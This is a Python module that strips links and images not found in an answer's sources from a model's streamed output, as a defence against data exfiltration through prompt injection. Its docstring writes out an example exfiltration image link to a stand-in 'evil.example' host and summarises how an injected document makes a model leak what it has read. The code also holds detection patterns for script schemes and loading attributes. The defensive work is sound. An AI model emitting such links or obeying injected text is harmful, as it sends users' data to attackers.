"""Links and images in an answer: only those that stand in its sources may reach the reader.

A document that gets a model to write ``![](https://evil.example/?q=<what it has read>)`` has the reader's own browser
carry it away (Greshake et al. 2023, "Not what you've signed up for"). The text is read as Markdown and HTML would be,
piece by piece, so that a stream is as clean as the whole: what may still become a link is held back.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass

# No signs that Markdown or HTML could read, whatever stands beside them.
REMOVED = "\u2039link removed\u203a"
# A construct that is not complete by then is none: longer ones are broken, not kept.
MAX_CHARS = 2000
# Parentheses within an address that Markdown's readers follow.
MAX_DEPTH = 32
_WORD = re.compile(r"[A-Za-z][A-Za-z0-9+.\-]*")
_RUN = re.compile(r"[^\s<>\"'`\[\]{}|\u2039\u203a]*")
_DEFINED = re.compile(r"\s*(<[^<>\n]*>|[^\s<]\S*)")
_TAG = re.compile(r"<[A-Za-z/!?][^<>]*>")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*)>")
_DEFINES = re.compile(r"[\s>*+\d.\-]*\[[^\]]*")
_LOADS = re.compile(
    r"\b(?:src|srcset|href|style|background|poster|action|formaction|data|cite|ping|content|on[a-z]+)\s*=",
    re.IGNORECASE,
)
_ADDRESS_LIKE = re.compile(r"[:/\\&%@]|\w\.\w")
# These need no two slashes; the last three run what they carry.
_SCHEMES = frozenset({"mailto", "tel", "sms", "file", "data", "javascript", "vbscript"})
_ENDING = ".,;:!?*_~\u2026\u3002"


@dataclass(frozen=True, slots=True)
class _Found:
    """A construct that ends before ``end``, and what stands for it."""

    end: int
    text: str


class _More(Exception):  # noqa: N818 - it is no error: what comes next decides
    """The text ends before it is clear what this is."""


class LinkFilter:
    """Takes an answer in pieces and gives back what is safe of it; ``allowed`` are the sources' addresses."""

    def __init__(self, allowed: frozenset[str]) -> None:
        self._allowed = allowed
        self._held = ""
        # What was read of the present line, or the end of it.
        self._line = ""

    def feed(self, piece: str) -> str:
        """The text that can be shown by now."""
        self._held += piece
        return self._read(last=False)

    def finish(self) -> str:
        """What was held back, now that nothing follows."""
        return self._read(last=True)

    def _permits(self, address: str) -> bool:
        return not address or address in self._allowed

    def _read(self, *, last: bool) -> str:
        text, position = self._held, 0
        shown: list[str] = []
        while position < len(text):
            try:
                found = self._at(text, position, last=last)
            except _More:
                break
            shown.append(found.text)
            read = text[position : found.end]
            self._line = read.rpartition("\n")[2] if "\n" in read else f"{self._line}{read}"[-MAX_CHARS:]
            position = found.end
        self._held = text[position:]
        return "".join(shown)

    def _at(self, text: str, start: int, *, last: bool) -> _Found:
        """What begins here; ``last`` says that no text follows, so that an incomplete construct is none."""
        char = text[start]
        if char == "]":
            return self._bracket(text, start, last=last)
        if char == "<":
            return self._tag(text, start, last=last)
        if char == "/":
            return self._slashes(text, start, last=last)
        if char.isascii() and char.isalpha():
            return self._word(text, start, last=last)
        return _Found(start + 1, char)

    def _bracket(self, text: str, start: int, *, last: bool) -> _Found:
        """``](address "title")`` of a link or an image, ``]: address`` of a definition."""
        following = _char(text, start + 1, last=last)
        if following == ":" and _DEFINES.fullmatch(self._line):
            return self._definition(text, start, last=last)
        if following != "(":
            return _Found(start + 1, "]")
        end = _closing(text, start + 1, last=last)
        if end is None:
            # Not a link to us; the space sees to it that it is none to a laxer reader either.
            return _Found(start + 2, "] (")
        inside = text[start + 2 : end - 1].strip()
        address = inside[1:].partition(">")[0] if inside.startswith("<") else (inside.split() or [""])[0]
        if self._permits(address):
            return _Found(end, text[start:end])
        # What follows must not take the place of what is gone.
        return _Found(end, "] " if _char(text, end, last=last) in "([:" else "]")

    def _definition(self, text: str, start: int, *, last: bool) -> _Found:
        match = _DEFINED.match(text, start + 2, start + MAX_CHARS)
        _complete(match.end() if match else len(text), text, start, last=last)
        if match is None or not _ADDRESS_LIKE.search(match.group(1)) or self._permits(match.group(1).strip("<>")):
            return _Found(start + 2, "]:")
        return _Found(match.end(), f"]: {REMOVED}")

    def _tag(self, text: str, start: int, *, last: bool) -> _Found:
        """``<img src=…>``, ``<https://…>``; what neither loads nor links anything is left alone."""
        match = _TAG.match(text, start, start + MAX_CHARS)
        if match is None:
            following = _char(text, start + 1, last=last)
            if following.isascii() and (following.isalpha() or following in "/!?") and "<" not in text[start + 1 :]:
                _complete(len(text), text, start, last=last)
            return _Found(start + 1, "<")
        tag = match.group()
        if autolink := _AUTOLINK.fullmatch(tag):
            return _Found(match.end(), tag if self._permits(autolink.group(1)) else REMOVED)
        # A space, or what stands before and behind it would become one word: "htt<img src=x>ps://".
        return _Found(match.end(), " " if _LOADS.search(tag) else tag)

    def _slashes(self, text: str, start: int, *, last: bool) -> _Found:
        """``//host.example/…`` takes the page's own scheme."""
        before = self._line[-1:] or " "
        if before.isalnum() or before in ":/." or _char(text, start + 1, last=last) != "/":
            return _Found(start + 1, "/")
        return self._address(text, start, start + 2, last=last, only_if=".")

    def _word(self, text: str, start: int, *, last: bool) -> _Found:
        """A word; or an address that begins with one: ``https://…``, ``mailto:…``, ``www.…``."""
        match = _WORD.match(text, start, start + MAX_CHARS)
        end = match.end() if match else start + 1
        _complete(end, text, start, last=last)
        word = text[start:end].lower()
        if word.startswith("www."):
            return self._address(text, start, end, last=last)
        if _char(text, end, last=last) == ":":
            slashes = _char(text, end + 1, last=last) == "/" and _char(text, end + 2, last=last) == "/"
            if slashes or word in _SCHEMES:
                return self._address(text, start, end + 1, last=last)
        return _Found(end, text[start:end])

    def _address(self, text: str, start: int, known: int, *, last: bool, only_if: str = "") -> _Found:
        match = _RUN.match(text, known, start + MAX_CHARS)
        end = match.end() if match else known
        _complete(end, text, start, last=last)
        address = _without_ending(text[start:end])
        if only_if not in address or len(address) <= known - start:
            return _Found(known, text[start:known])
        end = start + len(address)
        return _Found(end, address if self._permits(address) else REMOVED)


class _Collector(LinkFilter):
    """Lets everything pass and remembers it."""

    def __init__(self) -> None:
        super().__init__(frozenset())
        self.found: set[str] = set()

    def _permits(self, address: str) -> bool:
        if address:
            self.found.add(address)
        return True


def addresses(texts: Iterable[str]) -> frozenset[str]:
    """Every address in the texts: of links, images, definitions, tags, and those that just stand there."""
    collector = _Collector()
    for text in texts:
        collector.feed(f"{text}\n")
        collector.finish()
    return frozenset(collector.found)


def without_foreign_links(text: str, allowed: frozenset[str]) -> str:
    """The text in which images and links keep their words and lose an address that is not allowed."""
    reader = LinkFilter(allowed)
    return reader.feed(text) + reader.finish()


def _char(text: str, index: int, *, last: bool) -> str:
    if index < len(text):
        return text[index]
    if last:
        return "\n"
    raise _More


def _complete(end: int, text: str, start: int, *, last: bool) -> None:
    """Raise when what began at ``start`` reaches the end of the text and may go on."""
    if end >= len(text) and not last and len(text) - start < MAX_CHARS:
        raise _More


def _closing(text: str, opening: int, *, last: bool) -> int | None:
    """Behind the parenthesis that closes the one at ``opening``; None when none does."""
    depth = 0
    limit = min(len(text), opening + MAX_CHARS)
    position = opening
    while position < limit:
        char = text[position]
        if char == "\\":
            position += 1
        elif char == "\n" and text[position - 1] == "\n":
            return None
        elif char == "(":
            depth += 1
            if depth > MAX_DEPTH:
                return None
        elif char == ")":
            depth -= 1
            if depth == 0:
                return position + 1
        position += 1
    _complete(len(text), text, opening, last=last)
    return None


def _without_ending(address: str) -> str:
    """Without what ends the sentence around it: full stops, and parentheses that it did not open."""
    while address and (address[-1] in _ENDING or (address[-1] == ")" and address.count("(") < address.count(")"))):
        address = address[:-1]
    return address
